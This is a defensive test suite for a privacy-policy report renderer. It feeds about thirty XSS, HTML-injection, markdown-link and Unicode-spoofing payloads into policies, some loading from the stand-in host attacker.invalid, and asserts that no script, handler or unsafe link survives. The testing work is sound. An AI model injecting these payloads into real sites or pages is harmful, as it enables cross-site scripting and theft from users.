import { describe, expect, it } from 'vitest';
import { describeInBrowser } from '../support/chromium.js';
import { comparisonOf, elementsOf, reportOf, treeOf, wordsOf } from '../support/pages.js';

const RUN = 'globalThis.ran=1';

/** What policies could hold to run something, to load something, to break out of where they are shown, or to hide where words stand. */
const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://attacker.invalid/x.js></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://attacker.invalid/pixel.gif">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<base href="https://attacker.invalid/"><link rel=stylesheet href="https://attacker.invalid/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">`,
  `<form action="https://attacker.invalid/"><button autofocus onfocus="${RUN}">x</button></form>`,
  `<style>@import "https://attacker.invalid/x.css"; body { display: none }</style>`,
  `[click](javascript:${RUN}) and [here](JaVaScRiPt:${RUN}) and [there](data:text/html,<script>${RUN}</script>)`,
  `[x](https://attacker.invalid/"onmouseover="${RUN}) <https://attacker.invalid/'onclick='${RUN}>`,
  `<a href="java&#10;script:${RUN}">a</a> <a href=" &#1;javascript:${RUN}">b</a>`,
  `![image](https://attacker.invalid/x.png "onerror=${RUN}")`,
  `</p></li></article></main></body></html><script>${RUN}</script>`,
  `</style></title></textarea></template><script>${RUN}</script>`,
  `--> <!-- <script>${RUN}</script> -->  ]]> <![CDATA[ <script>${RUN}</script> ]]>`,
  `<a id=help><form id=findings name=documentElement><input name=children></form></a>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &amp;lt;script&amp;gt;`,
  `<b><i><p>broken <ul><li>nesting </b></i> <table><tr><td><li>x`,
  '\u202emoc.live\u202c \u2066 \u2067 \u2069 \u200e\u200f',
  'zero\u200b width\u200d joined\u2060 \ufeff soft\u00adhyphens',
  '\u0000 \u0007 \u001b[31m \u007f \u0085 \u2028 \u{e0041}',
  '\ud800 lone surrogates \udc00 𝒜𝓈𝓉𝓇𝒶𝓁 👩‍👩‍👧‍👦',
  `\`</code><script>${RUN}</script>\``,
  '\'"><x y=\'">',
];

const CLAUSE = 'We may share your personal information with our partners for business purposes.';

const markdown = (payload: string): string =>
  `# Privacy policy ${payload}\n\n${payload}\n\n${CLAUSE} ${payload}\n\n- ${payload}\n\n${CLAUSE}\n`;
const html = (payload: string): string =>
  `<!doctype html><html><head><title>${payload}</title></head><body><h1>Privacy policy</h1><p>${CLAUSE} ${payload}</p><p>${payload}</p><p>${CLAUSE}</p></body></html>`;

const POLICIES = PAYLOADS.flatMap((payload) => [
  { path: 'a.md', text: markdown(payload) },
  { path: 'a.txt', text: markdown(payload) },
  { path: 'a.html', text: html(payload) },
]);

/** The elements that pages are made of; nothing of a policy adds another. */
const KNOWN =
  'html head meta title style body nav a header span button main section div h1 h2 h3 h4 h5 h6 p table caption thead tbody tr th td ' +
  'svg rect article ul ol li strong mark aside form label input fieldset legend select option details summary q dl dt dd code dialog ' +
  'kbd footer script del ins';

describe('a hostile policy', () => {
  it.each(POLICIES)(
    'cannot add an element, an attribute that runs, or a link that does: $path $text',
    ({ path, text }) => {
      const { page, report } = reportOf(text, path);
      const tree = treeOf(page);
      for (const { tagName, properties } of elementsOf(tree)) {
        expect(KNOWN.split(' ')).toContain(tagName);
        expect(
          Object.keys(properties).filter((name) => /^(?:on|style$|src|action|formAction|srcDoc)/i.test(name)),
        ).toEqual([]);
        if (tagName === 'a') expect(String(properties.href ?? '#')).toMatch(/^(?:#|https?:|mailto:)/);
      }
      expect(elementsOf(tree, ({ tagName }) => tagName === 'script')).toHaveLength(1);
      expect(elementsOf(tree, ({ tagName }) => tagName === 'style')).toHaveLength(1);
      for (const { fingerprint, quote } of report.findings) {
        const marks = elementsOf(
          tree,
          (e) => e.tagName === 'mark' && e.properties.dataOf === `finding-${fingerprint}`,
        );
        expect(marks.map(wordsOf).join(' ')).toBe(quote);
      }
    },
  );

  it('is marked at its first clause whatever stands behind it', () => {
    for (const { path, text } of POLICIES) {
      const { report } = reportOf(text, path);
      if (report.notes.length === 0) expect(report.findings.length, text).toBeGreaterThan(0);
    }
  });

  it.each([
    ['paragraphs', '\n\n'],
    ['a single paragraph', ' '],
  ])('of 5 MB still makes a page: %s', { timeout: 120_000 }, (_, between) => {
    const text = `${CLAUSE}${between}${`Chains need oil, and brakes need care.${between}`.repeat(40)}`.repeat(
      3200,
    );
    const { page, report } = reportOf(text, 'a.md');
    expect(text.length).toBeGreaterThan(5_000_000);
    expect(report.findings.length).toBeGreaterThan(0);
    expect(page).toMatch(/<\/html>\n$/);
    expect(page.length).toBeLessThan(4 * text.length);
  });
});

describeInBrowser('a hostile policy in a browser', (open) => {
  const all = (make: (payload: string) => string): string => PAYLOADS.map(make).join('\n\n');

  it.each([
    ['Markdown', reportOf(all(markdown), 'a.md').page],
    ['text', reportOf(all(markdown), 'a.txt').page],
    ['HTML', reportOf(all(html), 'a.html').page],
    [
      'a comparison',
      comparisonOf(all(markdown), `${CLAUSE}\n\n${all((payload) => `${markdown(payload)} and more`)}`).page,
    ],
  ])('runs nothing, asks for nothing and keeps the page working: %s', async (_, html) => {
    const { page, expectQuiet } = await open(html);
    await page.keyboard.press('n');
    await page.keyboard.press('n');
    expect(await page.locator('[data-stop][data-current]').count()).toBe(1);
    for (const link of await page.locator('article a:not(.reference)').all()) await link.focus();
    expect(await page.evaluate('globalThis.ran')).toBeUndefined();
    expect(await page.locator('footer').isVisible()).toBe(true);
    expectQuiet();
  });
});
